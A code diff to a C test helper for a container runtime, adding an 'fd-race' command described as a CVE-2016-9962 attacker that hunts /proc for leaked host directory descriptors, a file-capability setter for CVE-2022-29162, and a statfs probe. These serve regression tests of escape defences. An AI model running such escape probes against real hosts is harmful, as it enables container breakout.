@@ -3,7 +3,9 @@
  *   testinit true | exit N | echo ARGS... | cat | fds | caps | nnp | seccomp | hostname | pause
  *            | write PATH TEXT | syscall mount|unshare|keyctl
  *            | notify MSG (one sd_notify datagram to $NOTIFY_SOCKET, e.g. READY=1)
- *            | accept3 (socket activation: answers one connection on fd 3 with its LISTEN_ vars) */
+ *            | accept3 (socket activation: answers one connection on fd 3 with its LISTEN_ vars)
+ *            | fd-race SECONDS (CVE-2016-9962 attacker) | setcap PATH BIT (file caps BIT+ei)
+ *            | statfs PATH (the filesystem's magic, hex) */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -16,6 +18,8 @@
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/statfs.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
 #include <sys/xattr.h>
@@ -73,6 +77,74 @@ static int exe_race(int seconds) {
     if (w >= 0 && write(w, "x", 1) == 1) printf("WROTE %s\n", names[i]);
   }
   fflush(stdout);
+  return 0;
+}
+
+// CVE-2016-9962 attacker: for SECONDS, try to open as a directory every /proc/PID/fd/N,
+// /proc/PID/cwd and /proc/PID/root of every other process (berth's exec children among them).
+// A directory that is on none of the container's own filesystems came from the host: printed
+// as "OPENED path -> target". Prints "tried N" at the end.
+static int fd_race(int seconds) {
+  dev_t own[16];
+  int nown = 0;
+  const char *mine[] = {"/", "/proc", "/dev", "/dev/pts", "/dev/shm", "/dev/mqueue", "/sys", "/etc/hosts", "/tmp"};
+  for (unsigned i = 0; i < sizeof mine / sizeof *mine; i++) {
+    struct stat st;
+    if (stat(mine[i], &st) == 0) own[nown++] = st.st_dev;
+  }
+  long tried = 0;
+  time_t end = time(NULL) + seconds;
+  int self = getpid();
+  while (time(NULL) < end) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 0 || pid == self) continue;
+      char names[64][300];
+      int n = 0;
+      snprintf(names[n++], sizeof names[0], "/proc/%d/cwd", pid);
+      snprintf(names[n++], sizeof names[0], "/proc/%d/root", pid);
+      char fdd[64];
+      snprintf(fdd, sizeof fdd, "/proc/%d/fd", pid);
+      DIR *f = opendir(fdd);
+      struct dirent *fe;
+      while (f && n < 64 && (fe = readdir(f)))
+        if (fe->d_name[0] != '.') snprintf(names[n++], sizeof names[0], "/proc/%d/fd/%.200s", pid, fe->d_name);
+      for (int k = 0; k < n; k++) {
+        int fd = open(names[k], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        tried++;
+        if (fd < 0) continue;
+        struct stat st;
+        int inside = 0;
+        if (fstat(fd, &st) == 0)
+          for (int i = 0; i < nown; i++) inside |= st.st_dev == own[i];
+        if (!inside) {
+          char target[256] = "";
+          ssize_t len = readlink(names[k], target, sizeof target - 1);
+          target[len > 0 ? len : 0] = 0;
+          printf("OPENED %s -> %s\n", names[k], target);
+        }
+        close(fd);
+      }
+      if (f) closedir(f);
+    }
+    if (d) closedir(d);
+  }
+  printf("tried %ld\n", tried);
+  fflush(stdout);
+  return 0;
+}
+
+// A file capability set as `setcap cap_BIT+ei PATH` would: effective and inheritable, nothing
+// permitted (so a process gains BIT only through its own inheritable set: CVE-2022-29162).
+static int set_file_cap(const char *path, int bit) {
+  unsigned int v[5] = {0x02000000u | 1u, 0, 0, 0, 0};  // VFS_CAP_REVISION_2 | EFFECTIVE
+  v[bit < 32 ? 2 : 4] = 1u << (bit % 32);               // inheritable word
+  if (setxattr(path, "security.capability", v, sizeof v, 0) != 0) {
+    perror("setxattr security.capability");
+    return 1;
+  }
   return 0;
 }
 
@@ -154,6 +226,14 @@ int main(int argc, char **argv) {
     return 0;
   }
   if (strcmp(cmd, "exe-race") == 0 && argc > 2) return exe_race(atoi(argv[2]));
+  if (strcmp(cmd, "fd-race") == 0 && argc > 2) return fd_race(atoi(argv[2]));
+  if (strcmp(cmd, "setcap") == 0 && argc > 3) return set_file_cap(argv[2], atoi(argv[3]));
+  if (strcmp(cmd, "statfs") == 0 && argc > 2) {
+    struct statfs sf;
+    if (statfs(argv[2], &sf) != 0) { perror(argv[2]); return 1; }
+    printf("%lx\n", (unsigned long)sf.f_type);
+    return 0;
+  }
   if (strcmp(cmd, "setxattr") == 0 && argc > 4) {
     if (setxattr(argv[2], argv[3], argv[4], strlen(argv[4]), 0) != 0) { perror("setxattr"); return 1; }
     return 0;
